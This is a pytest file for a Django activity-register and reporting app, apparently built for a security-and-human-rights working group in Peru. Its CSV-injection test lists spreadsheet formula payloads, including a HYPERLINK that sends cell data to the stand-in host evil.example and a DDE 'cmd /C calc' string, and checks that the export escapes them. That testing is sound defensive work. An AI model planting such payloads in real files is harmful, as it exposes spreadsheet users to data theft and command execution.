"""The activity register, member proposals, evidence, outreach, and the reports: totals, the
seed's sentence, CSV, charts, state participation, the annual report in the background."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import date

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from activities import reports, services
from activities.models import Activity, ParticipantCount, ReportJob
from activities.queries import register_cache
from meetings.models import Attendance
from meetings.services import minutes as minutes_service
from tests.factories import (
    add_contribution,
    make_activity,
    make_coordination,
    make_institution,
    make_meeting,
    make_member,
    make_minutes,
    make_representative,
    make_secretariat,
    make_user,
    sign_in,
    upload,
)
from vpswg.models import WorkingGroup
from vpswg.scoping import group_scope

pytestmark = pytest.mark.django_db


def test_a_members_proposal_waits_for_the_secretariat(client, group):
    representative = make_representative(group)
    sign_in(client, representative.user)
    response = client.post(
        reverse("activities:new", kwargs={"wg": group.slug}),
        {
            "organisers": [representative.institution_id],
            "title": "Taller en Cusco",
            "kind": "workshop",
            "start_date": "2026-05-10",
            "place": "Cusco",
            "count_police_military": "40",
            "women_police_military": "10",
            "men_police_military": "30",
            "count_community": "15",
            "evidence": upload("programa.pdf"),
        },
    )
    assert response.status_code == 302
    with group_scope(group):
        activity = Activity.objects.get(title="Taller en Cusco")
        assert activity.status == "proposed" and activity.evidence.count() == 1
        assert sorted(
            ParticipantCount.objects.filter(activity=activity).values_list("sector", "total")
        ) == [("community", 15), ("police_military", 40)]
        assert reports.totals(group).activities == 0  # not counted until confirmed
    client.logout()
    sign_in(client, make_secretariat(group))
    client.post(
        reverse("activities:confirm", kwargs={"wg": group.slug, "pk": activity.pk}),
        {"decision": "confirm"},
    )
    with group_scope(group):
        assert reports.totals(group).participants == 55


def test_women_and_men_cannot_exceed_the_participants(client, group):
    sign_in(client, make_secretariat(group))
    response = client.post(
        reverse("activities:new", kwargs={"wg": group.slug}),
        {
            "title": "X",
            "kind": "course",
            "start_date": "2026-05-10",
            "count_business": "10",
            "women_business": "8",
            "men_business": "5",
        },
    )
    assert response.status_code == 200
    assert "add up to more" in str(response.context["form"].errors)
    assert response.context["form"]["title"].value() == "X"


def test_totals_against_a_hand_computed_fixture(group):
    make_activity(
        group,
        kind="course",
        start_date=date(2011, 4, 1),
        counts=[("police_military", 30, 5, 25), ("civil_servants", 10, None, None)],
    )
    make_activity(
        group, kind="seminar", start_date=date(2012, 6, 1), counts=[("business", 25, 10, 15)]
    )
    make_activity(group, kind="study", start_date=date(2012, 1, 1), counts=[])
    make_activity(
        group, kind="site_visit", start_date=date(2013, 1, 1), counts=[("community", 12, 6, 6)]
    )
    make_activity(
        group, kind="workshop", start_date=date(2016, 1, 1), counts=[("ngos", 99, None, None)]
    )
    make_activity(
        group,
        kind="workshop",
        start_date=date(2012, 2, 1),
        counts=[("ngos", 7, None, None)],
        confirmed=False,
    )
    with group_scope(group):
        t = reports.totals(group, 2010, 2015)
    assert (t.activities, t.participants) == (4, 77)
    assert (t.training_activities, t.training_participants) == (2, 65)
    assert t.years == [2010, 2011, 2012, 2013, 2014, 2015]
    assert {s["sector"]: (s["total"], s["women"], s["men"]) for s in t.sectors} == {
        "police_military": (30, 5, 25),
        "civil_servants": (10, None, None),  # not recorded: unknown, not zero
        "business": (25, 10, 15),
        "community": (12, 6, 6),
    }
    assert t.sentence() == (
        "During the period 2010-2015, the group conducted 2 training and dissemination activities. "
        "The total number of participants in these activities was 65."
    )


def test_the_demo_reproduces_the_seeds_sentence():
    call_command("seed_demo", verbosity=0)
    peru = WorkingGroup.objects.get(slug="peru")
    with group_scope(peru):
        t = reports.totals(peru, 2010, 2015)
        study = Activity.objects.get(kind="study")
        titles = set(Activity.objects.values_list("title", flat=True))
    assert (t.training_activities, t.training_participants) == (28, 2213)
    assert "28 training and dissemination activities" in t.sentence()
    assert "was 2,213" in t.sentence()  # thousands grouped as the reader writes them
    assert study.publication_date == date(2010, 4, 20) and study.interviews_companies == 9
    assert any(title.startswith("Desayuno para ejecutivos") for title in titles)
    assert any(
        title.startswith("Curso de capacitación para la Policía Nacional") for title in titles
    )


def test_csv_opens_in_a_spanish_spreadsheet_and_round_trips(client, group):
    """The separator follows the reader's language: a comma in English, a semicolon in a
    Spanish-locale spreadsheet (whose comma is the decimal separator)."""
    make_activity(
        group,
        title="Capacitación en Áncash: uso de la fuerza; derechos",
        kind="training",
        start_date=date(2014, 3, 3),
        place="Huaraz",
        region="Áncash",
        counts=[("police_military", 40, 8, 32)],
        organisers=[make_institution(group, name="Sociedad Peruana de Derecho")],
    )
    sign_in(client, make_member(group))
    response = client.get(
        reverse("reports:csv", kwargs={"wg": group.slug}) + "?start=2014&end=2014"
    )
    assert (
        response["Content-Disposition"].startswith("attachment")
        and "charset=utf-8" in response["Content-Type"]
    )
    data = response.content
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=","))
    assert rows[0][:4] == ["Date", "Until", "Title", "Kind"]
    assert rows[1][2] == "Capacitación en Áncash: uso de la fuerza; derechos"
    assert rows[1][5] == "Áncash" and rows[1][6] == "Sociedad Peruana de Derecho"
    assert (rows[1][9], rows[1][10], rows[1][11]) == ("40", "8", "32")
    client.cookies["vpswg_language"] = "es"
    data = client.get(
        reverse("reports:csv", kwargs={"wg": group.slug}) + "?start=2014&end=2014"
    ).content
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Fecha", "Hasta", "Título"] and len(rows[1]) == len(rows[0])
    assert rows[1][2] == "Capacitación en Áncash: uso de la fuerza; derechos"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("language", ["en", "es"])
def test_no_cell_of_the_export_opens_as_a_formula(client, group, language):
    """Members may propose activities: every free-text column (title, place, region,
    organisers, partners, funders) is written so that a spreadsheet shows it as text."""
    for n, formula in enumerate(FORMULAS):
        make_activity(
            group,
            title=formula,
            place=formula,
            region=formula,
            partners=formula,
            funders=formula,
            start_date=date(2015, 1, 1 + n),
            organisers=[make_institution(group, name=f"{formula} {n}")],
        )
    sign_in(client, make_member(group))
    client.cookies["vpswg_language"] = language
    data = client.get(reverse("reports:csv", kwargs={"wg": group.slug})).content
    rows = list(
        csv.reader(
            io.StringIO(data.decode("utf-8-sig"), newline=""),
            delimiter="," if language == "en" else ";",
        )
    )
    assert len(rows) == len(FORMULAS) + 1
    for row in rows[1:]:
        for column in (2, 4, 5, 6, 7, 8):
            assert row[column].startswith("'"), (column, row[column])
            assert row[column][1:].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row[9].isdigit()  # numbers stay numbers


def test_reports_page_draws_charts_with_their_tables(client, group):
    make_activity(
        group, kind="course", start_date=date(2014, 3, 3), counts=[("business", 20, None, None)]
    )
    sign_in(client, make_member(group))
    body = client.get(reverse("reports:index", kwargs={"wg": group.slug})).content.decode()
    assert body.count("<svg") >= 2 and 'role="img"' in body and "<table" in body
    assert "During the period 2014" in body


def _sentence_figures(body: str) -> str:
    start = (
        body.index("During the period") if "During the period" in body else body.index("Durante")
    )
    return body[start : body.index("</p>", start)]


def test_report_figures_are_kept_until_the_groups_data_changes(
    client, group, other_group, django_capture_on_commit_callbacks
):
    """The figures are rendered once and served again; any change to what they are drawn
    from, through a service, the ORM or a pillar, shows on the next view."""
    make_activity(
        group, kind="course", start_date=date(2014, 3, 3), counts=[("business", 20, None, None)]
    )
    make_activity(
        other_group, kind="course", start_date=date(2014, 5, 5), counts=[("ngos", 777, None, None)]
    )
    url = reverse("reports:index", kwargs={"wg": group.slug})
    sign_in(client, make_secretariat(group))
    client.get(url)  # the session's first request also reads the permissions it then caches

    def view() -> tuple[str, int]:
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(url)
        assert response.status_code == 200
        return response.content.decode(), len(ctx.captured_queries)

    with django_capture_on_commit_callbacks(execute=True):
        make_activity(
            group, kind="course", start_date=date(2014, 6, 1), counts=[("ngos", 5, None, None)]
        )
    first, cold = view()
    again, warm = view()
    assert "participants in these activities was 25" in _sentence_figures(first)
    figures = first[first.index('class="card headline"') : first.index('<form method="post"')]
    assert figures in again and warm == cold - 3  # the three aggregates are not run again
    assert "777" not in first  # the other group's register, on the same period and language

    # A new activity through the service, and one confirmed later.
    with django_capture_on_commit_callbacks(execute=True):
        pending = make_activity(
            group,
            kind="workshop",
            start_date=date(2014, 7, 1),
            counts=[("ngos", 30, None, None)],
            confirmed=False,
        )
    assert "was 25" in _sentence_figures(view()[0])
    with django_capture_on_commit_callbacks(execute=True), group_scope(group):
        services.confirm(activity=pending, actor=make_secretariat(group), confirmed=True)
    assert "was 55" in _sentence_figures(view()[0])

    # A deletion through the ORM (the admin site's path).
    with django_capture_on_commit_callbacks(execute=True), group_scope(group):
        pending.delete()
    assert "was 25" in _sentence_figures(view()[0])

    # Attendance at a plenary, then the institution's pillar.
    rep = make_representative(group)
    meeting = make_meeting(group, "convened", days=-400)
    with django_capture_on_commit_callbacks(execute=True), group_scope(group):
        Attendance.objects.create(
            working_group=group, meeting=meeting, user=rep.user, institution=rep.institution
        )
    body = view()[0]
    row = body[body.index("Institutions present at plenaries") :]
    assert '<td class="num">1</td><td class="num">0</td>' in row  # one company
    with django_capture_on_commit_callbacks(execute=True), group_scope(group):
        rep.institution.pillar = "civil_society"
        rep.institution.save()
    row = view()[0].split("Institutions present at plenaries")[1]
    assert '<td class="num">0</td><td class="num">0</td><td class="num">1</td>' in row

    # Each language has its own rendering.
    client.post(reverse("set_language"), {"language": "es", "next": "/"})
    spanish = view()[0]
    assert "Participantes por sector" in spanish and "Participants by sector" not in spanish

    # The other group's Secretariat sees its own figures; group A's page is not theirs.
    client.logout()
    sign_in(client, make_secretariat(other_group))
    assert client.get(url).status_code == 404
    body = client.get(reverse("reports:index", kwargs={"wg": other_group.slug})).content.decode()
    assert "was 777" in _sentence_figures(body)


def test_the_kept_register_follows_proposals_confirmations_and_organisers(
    client, group, other_group
):
    """Kept per reader: a member's listing holds their own proposals, nobody else's."""
    ana, ben = make_member(group), make_member(group)
    secretariat = make_secretariat(group)
    organiser = make_institution(group, name="Sociedad Minera Andina")
    make_activity(group, title="Taller de Huaraz", organisers=[organiser])
    make_activity(other_group, title="Beta workshop")
    url = reverse("activities:list", kwargs={"wg": group.slug})

    def view(user) -> str:
        client.logout()
        sign_in(client, user)
        response = client.get(url)
        assert response.status_code == 200
        return response.content.decode()

    assert "Taller de Huaraz" in view(ben) and "Beta workshop" not in view(ben)
    with CaptureQueriesContext(connection) as ctx:
        client.get(url)
    warm = len(ctx.captured_queries)
    make_activity(group, title="Propuesta de Ana", confirmed=False, user=ana)
    with CaptureQueriesContext(connection) as ctx:
        ben_now = client.get(url).content.decode()
    assert len(ctx.captured_queries) > warm  # drawn again: the register changed
    assert "Propuesta de Ana" not in ben_now
    assert "Propuesta de Ana" in view(ana)
    managers = view(secretariat)
    assert "Propuesta de Ana" in managers and "1 activity proposed by members" in managers
    with group_scope(group):
        proposal = Activity.objects.get(title="Propuesta de Ana")
        services.confirm(activity=proposal, actor=secretariat)
    assert "Propuesta de Ana" in view(ben)
    # The organisers: renamed, and changed.
    with group_scope(group):
        organiser.name = "Sociedad Minera del Ande"
        organiser.save()
    assert "Sociedad Minera del Ande" in view(ben)
    with group_scope(group):
        Activity.objects.get(title="Taller de Huaraz").organisers.clear()
    assert "Sociedad Minera del Ande" not in view(ben)
    # The other group.
    client.logout()
    sign_in(client, make_member(other_group))
    assert client.get(url).status_code == 404


def test_report_query_counts_are_the_same_for_5_and_500_activities(client, group):
    sign_in(client, make_secretariat(group))
    urls = [
        reverse(n, kwargs={"wg": group.slug})
        for n in ("reports:index", "activities:list", "reports:csv", "reports:state")
    ]

    def counts():
        out = []
        for url in urls:
            # The pages drawn, not kept ones.
            reports.figures_cache.changed(group.pk)
            register_cache.changed(group.pk)
            with CaptureQueriesContext(connection) as ctx:
                assert client.get(url).status_code == 200
            out.append(len(ctx.captured_queries))
        return out

    for i in range(5):
        make_activity(group, start_date=date(2010 + i % 6, 1 + i % 12, 1))
    counts()  # the first request of a session also reads the permissions it then caches
    few = counts()
    with group_scope(group):
        Activity.objects.bulk_create(
            [
                Activity(
                    working_group=group,
                    title=f"Bulk {i}",
                    kind="workshop",
                    start_date=date(2010 + i % 15, 1 + i % 12, 1 + i % 28),
                )
                for i in range(495)
            ]
        )
        ParticipantCount.objects.bulk_create(
            [
                ParticipantCount(working_group=group, activity=a, sector="ngos", total=10)
                for a in Activity.objects.filter(title__startswith="Bulk")
            ]
        )
    assert counts() == few


def test_state_participation_suppresses_small_numbers_for_members(
    client, group, eager_tasks, django_capture_on_commit_callbacks
):
    govs = [
        make_representative(
            group,
            institution=make_institution(group, pillar="government", kind="national_government"),
        )
        for _ in range(2)
    ]
    companies = [make_representative(group) for _ in range(3)]
    seats = [make_coordination(group, p) for p in ("companies", "government", "civil_society")]
    meeting = make_meeting(group, "convened", days=5, title="Plenary on the state")
    from datetime import timedelta

    from django.utils import timezone

    from meetings.models import Meeting

    with group_scope(group):
        Meeting.objects.filter(pk=meeting.pk).update(start=timezone.now() - timedelta(hours=3))
        meeting.refresh_from_db()
    minutes = make_minutes(meeting)
    with group_scope(group):
        section = minutes_service.add_section(minutes=minutes, actor=make_user(), title="Business")
        for rep in [*govs, *companies]:
            Attendance.objects.create(
                working_group=group, meeting=meeting, user=rep.user, institution=rep.institution
            )
        meeting.status = "held"
        meeting.save()
    add_contribution(minutes, "A point.", speaker=govs[0], section=section)
    add_contribution(minutes, "Another.", speaker=companies[0], section=section)
    add_contribution(minutes, "A third.", speaker=companies[0], section=section)
    with group_scope(group):
        # Who spoke is sealed: the counts are those of the version last submitted.
        minutes_service.submit(minutes=minutes, actor=make_user())
        full = {r["constituency"]: r for r in reports.participation(group, full=True)[0].rows}
        member_view = {
            r["constituency"]: r for r in reports.participation(group, full=False)[0].rows
        }
    assert (
        full["host_state"]["invited"],
        full["host_state"]["present"],
        full["host_state"]["took_part"],
    ) == (len(govs), 2, 1)
    assert (
        member_view["host_state"]["took_part"] is None and member_view["host_state"]["suppressed"]
    )
    assert member_view["host_state"]["invited"] is None
    assert member_view["companies"]["present"] >= 3 and member_view["companies"]["took_part"] == 1
    sign_in(client, make_member(group))
    body = client.get(reverse("reports:state", kwargs={"wg": group.slug})).content.decode()
    assert "Invited" not in body and "Too few institutions present" in body
    client.logout()
    sign_in(client, seats[1])
    body = client.get(reverse("reports:state", kwargs={"wg": group.slug})).content.decode()
    assert "Invited" in body


def test_annual_report_in_the_background_with_progress(
    client, group, eager_tasks, django_capture_on_commit_callbacks, tmp_path
):
    make_activity(
        group,
        title="Seminario de Arequipa",
        kind="seminar",
        start_date=date(2025, 5, 5),
        counts=[("business", 42, None, None)],
    )
    make_meeting(group, "held", days=-400)
    user = make_coordination(group)
    sign_in(client, user)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("reports:annual", kwargs={"wg": group.slug}), {"year": "2025"}
        )
    job_url = response["Location"]
    with group_scope(group):
        job = ReportJob.objects.get()
    assert job.status == "done" and job.progress == 100
    partial = client.get(job_url, HTTP_HX_REQUEST="true").content.decode()
    assert "<html" not in partial and "every 1s" not in partial and "report.pdf" in partial
    pdf = client.get(reverse("reports:job_download", kwargs={"wg": group.slug, "pk": job.pk}))
    path = tmp_path / "annual.pdf"
    path.write_bytes(b"".join(pdf.streaming_content))
    text = subprocess.run(
        ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "Seminario de Arequipa" in text and "42" in text and "2025" in text
    # Another seat cannot see this seat's job.
    client.logout()
    sign_in(client, make_coordination(group, "government"))
    assert client.get(job_url).status_code == 404


def test_the_annual_report_is_prepared_once_at_a_time_by_those_who_need_it(client, group):
    """A PDF is expensive: a member may not start one; a seat gets one job at a time; a
    year out of range is refused with a message and starts nothing."""
    url = reverse("reports:annual", kwargs={"wg": group.slug})
    sign_in(client, make_member(group))
    assert client.post(url, {"year": "2025"}).status_code == 403
    client.logout()
    seat = make_coordination(group)
    sign_in(client, seat)
    for year in ("-1", "0", "1999", "99999999999999999999", "abc", "", "2999"):
        response = client.post(url, {"year": year}, follow=True)
        assert response.status_code == 200, year
        body = response.content.decode()
        assert any(
            m in body
            for m in ("Choose a year from 2000", "Enter the year as a number", "Choose the year")
        ), year
    with group_scope(group):
        assert not ReportJob.objects.exists()
    first = client.post(url, {"year": "2025"})
    again = client.post(url, {"year": "2024"}, follow=True)
    with group_scope(group):
        job = ReportJob.objects.get()  # no worker ran it: still waiting, so not started twice
    assert first["Location"].endswith(f"/{job.pk}/") and job.year == 2025
    assert "still being prepared" in again.content.decode()


def test_a_queued_job_shows_polling(client, group):
    user = make_member(group)
    with group_scope(group):
        job = ReportJob.objects.create(working_group=group, year=2025, requested_by=user)
    sign_in(client, user)
    partial = client.get(
        reverse("reports:job", kwargs={"wg": group.slug, "pk": job.pk}), HTTP_HX_REQUEST="true"
    )
    assert 'hx-trigger="every 1s"' in partial.content.decode()


def test_outreach_is_logged_by_the_secretariat_and_read_by_coordination(client, group):
    from meetings.services import guests as guest_service

    secretariat = make_secretariat(group)
    with group_scope(group):
        guest = guest_service.register_guest(
            working_group=group, actor=secretariat, name="Ombudsman expert"
        )
    sign_in(client, secretariat)
    response = client.post(
        reverse("activities:outreach", kwargs={"wg": group.slug}),
        {
            "date": "2026-02-01",
            "target_name": "Policía Nacional",
            "target_kind": "police",
            "method": "meeting",
            "outcome": "Interested in a course.",
            "guest": guest.pk,
        },
    )
    assert response.status_code == 302
    client.logout()
    sign_in(client, make_coordination(group))
    body = client.get(reverse("activities:outreach", kwargs={"wg": group.slug})).content.decode()
    assert "Policía Nacional" in body and "Log an approach" not in body
    assert (
        client.post(reverse("activities:outreach", kwargs={"wg": group.slug}), {}).status_code
        == 403
    )


def test_evidence_follows_the_upload_rules(client, group):
    from django.core.files.uploadedfile import SimpleUploadedFile

    sign_in(client, make_secretariat(group))
    response = client.post(
        reverse("activities:new", kwargs={"wg": group.slug}),
        {
            "title": "With bad evidence",
            "kind": "course",
            "start_date": "2026-05-10",
            "evidence": SimpleUploadedFile("report.pdf", b"<html>no</html>"),
        },
    )
    assert response.status_code == 200 and "neither a PDF nor a Word" in str(
        response.context["form"].errors
    )
    with group_scope(group):
        assert not Activity.objects.filter(title="With bad evidence").exists()
    assert services
